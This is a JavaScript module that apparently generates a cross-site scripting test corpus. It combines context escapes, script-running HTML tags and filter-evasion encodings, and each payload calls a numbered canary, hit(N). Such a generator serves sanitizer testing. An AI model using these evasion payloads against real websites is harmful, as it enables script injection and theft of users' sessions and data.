// SPDX-License-Identifier: Apache-2.0
//
// Texts that would run script on a page which takes them for markup, made by a grammar of our own: ways out
// of where a text may stand, things that run, ways of writing both. Each calls hit(N) with its number.

// How a text gets out of where it was put.
const exits = [
  ['text', (thing) => thing],
  ['double quotes', (thing) => `">${thing}`],
  ['single quotes', (thing) => `'>${thing}`],
  ['no quotes', (thing) => ` >${thing}`],
  ['title', (thing) => `</title>${thing}`],
  ['textarea', (thing) => `</textarea>${thing}`],
  ['script', (thing) => `</script>${thing}`],
  ['style', (thing) => `</style>${thing}`],
  ['comment', (thing) => `-->${thing}`],
  ['section', (thing) => `]]>${thing}`],
  ['raw text', (thing) => `</noscript></template></iframe></xmp>${thing}`],
  ['drawing', (thing) => `</svg></math>${thing}`],
  ['list', (thing) => `</option></select></table>${thing}`],
  ['entity', (thing) => `&quot;&gt;${thing}`],
];

// What runs once it is markup. `act` is the call.
const things = [
  (act) => `<script>${act}</script>`,
  (act) => `<img src=x onerror=${act}>`,
  (act) => `<svg onload=${act}>`,
  (act) => `<svg><script>${act}</script></svg>`,
  (act) => `<svg><animate onbegin=${act} attributeName=x dur=1s>`,
  (act) => `<svg><a href="javascript:${act}"><text y=9>a</text></a></svg>`,
  (act) => `<math href="javascript:${act}">a</math>`,
  (act) => `<iframe src="javascript:${act}"></iframe>`,
  (act) => `<iframe srcdoc="<img src=x onerror=${act}>"></iframe>`,
  (act) => `<object data="javascript:${act}"></object>`,
  (act) => `<embed src="javascript:${act}">`,
  (act) => `<details open ontoggle=${act}><summary>a</summary></details>`,
  (act) => `<input autofocus onfocus=${act}>`,
  (act) => `<select autofocus onfocus=${act}></select>`,
  (act) => `<a href="javascript:${act}" autofocus onfocus=${act} tabindex=1>a</a>`,
  (act) => `<video><source onerror=${act}></video>`,
  (act) => `<audio src=x onerror=${act}>`,
  (act) => `<link rel=stylesheet href=x onerror=${act}>`,
  (act) => `<style onload=${act}>a{}</style>`,
  (act) => `<style>@keyframes k{}</style><b style="animation:k 1s" onanimationstart=${act}>a</b>`,
  (act) => `<form><button formaction="javascript:${act}">a</button></form>`,
  (act) => `<meta http-equiv=refresh content="0;url=javascript:${act}">`,
  (act) => `<base href="javascript:/${act}//">`,
  (act) => `<marquee onstart=${act}>a</marquee>`,
  (act) => `<b onmouseover=${act} onclick=${act} onfocus=${act} tabindex=0>a</b>`,
  (act) => `<img srcset=x onerror=${act}>`,
  (act) => `<template shadowrootmode=open><img src=x onerror=${act}></template>`,
  (act) => `<body onload=${act} onpageshow=${act}>`,
];

// How it is written, so that a filter by looks misses it or a second reading makes it.
const hex = (text, form) => [...text].map((c) => form((c.codePointAt(0) ?? 0).toString(16))).join('');
const marks = (text, form) => text.replace(/[<>"'&=]/g, (c) => form(c));
const spellings = [
  (text) => text,
  (text) => text.replace(/<(\/?)([a-z]+)/g, (_, slash, name) => `<${slash}${name.toUpperCase()}`),
  (text) => text.replace(/ /g, '/'),
  (text) => text.replace(/ /g, '\f'),
  (text) => text.replace(/ /g, '\t'),
  (text) => text.replace(/>$/, ' '),
  (text) => text.replace(/</g, '<<'),
  (text) => text.replace(/javascript:/g, 'java&Tab;script&colon;'),
  (text) => text.replace(/javascript:/g, ' JaVaScRiPt:'),
  (text) => text.replace(/hit\(/g, 'top[/hi/.source+/t/.source]('),
  (text) => text.replace(/hit\(/g, '&#104;&#x69;t&lpar;'),
  (text) => marks(text, (c) => ({ '<': '&lt;', '>': '&gt;', '"': '&quot;', "'": '&#39;', '&': '&amp;', '=': '=' })[c] ?? c),
  (text) => marks(text, (c) => `&#${c.charCodeAt(0)};`),
  (text) => marks(text, (c) => hex(c, (digits) => `%${digits}`)),
  (text) => marks(text, (c) => hex(c, (digits) => `\\u${digits.padStart(4, '0')}`)),
  (text) => marks(text, (c) => hex(c, (digits) => `\\x${digits}`)),
  (text) => marks(text, (c) => String.fromCodePoint(0xfee0 + c.charCodeAt(0))), // fullwidth
  (text) => text.replace(/[<>]/g, (c) => (c === '<' ? '+ADw-' : '+AD4-')),
  (text) => text.replace(/([a-z]{3})/, '$1\u200b'),
  (text) => `\u202e${text}`,
  (text) => text.replace(/<([a-z])/, '<!----><$1'),
];

// Those that are no markup: for a text that ends up in a script, an address, a style or a template.
const others = [
  (act) => `";${act};//`,
  (act) => `';${act};//`,
  (act) => `\`;${act};//`,
  (act) => `\\";${act};//`,
  (act) => `\${${act}}`,
  (act) => `{{constructor.constructor('${act}')()}}`,
  (act) => `javascript:${act}`,
  (act) => `javascript://%0a${act}`,
  (act) => `\u0001javascript:${act}`,
  (act) => `data:text/html,<script>parent.${act}</script>`,
  (act) => `vbscript:${act}`,
  (act) => `//127.0.0.1:9/${act}`,
  (act) => `\u2028${act}\u2029`,
  (act) => `</script><script>${act}//`,
  (act) => `x" onmouseover="${act}" a="`,
  (act) => `x' onfocus='${act}' autofocus='`,
  (act) => `x onerror=${act} `,
  (act) => `;background:url("javascript:${act}")`,
  (act) => `}</style><img src=x onerror=${act}>`,
  (act) => `{"__proto__":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${act}>"}}}`,
  (act) => `--><!--><img src=x onerror=${act}>`,
  (act) => `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
  (act) => `<math><mtext><table><mglyph><style><img src=x onerror=${act}>`,
  (act) => `<svg></p><style><a title="</style><img src=x onerror=${act}>">`,
  (act) => `[a](javascript:${act})`,
  (act) => `![a](x"onerror="${act})`,
];

// Each exit with each thing, each thing in each spelling, and the others in four spellings. Of `share` parts of
// them the one called `which`: it is taken along the diagonals of these tables, so that each part has every exit,
// every thing and every spelling, and no two neighbours are of one kind. A text has the same number in each part.
export function payloads(share = 1, which = 0) {
  const out = [];
  let number = 0;
  const add = (diagonal, form) => {
    const text = form(`hit(${number++})`);
    if (diagonal % share === which) out.push(text);
  };
  exits.forEach(([, leave], i) => things.forEach((thing, j) =>
    add(i + j, (act) => spellings[(i === 0 ? 0 : i + j) % spellings.length](leave(thing(act))))));
  things.forEach((thing, j) => spellings.slice(1).forEach((spell, k) => add(j + k, (act) => spell(thing(act)))));
  others.forEach((other, j) => [0, 1, 10, 13].forEach((spell, k) => add(j + k, (act) => spellings[spell](other(act)))));
  return apart(out);
}

// In an order in which those that stand in a row or a column of a table come far from each other: whatever deals
// them out by turns gives each field some of every kind.
function apart(list) {
  const divisor = (a, b) => (b === 0 ? a : divisor(b, a % b));
  let step = Math.round(list.length * 0.618);
  while (divisor(step, list.length) !== 1) ++step;
  return list.map((_, at) => list[(at * step) % list.length]);
}

// By number.
export function payload(number) {
  return payloads().find((text) => text.includes(`(${number})`) || text.includes(`lpar;${number})`));
}
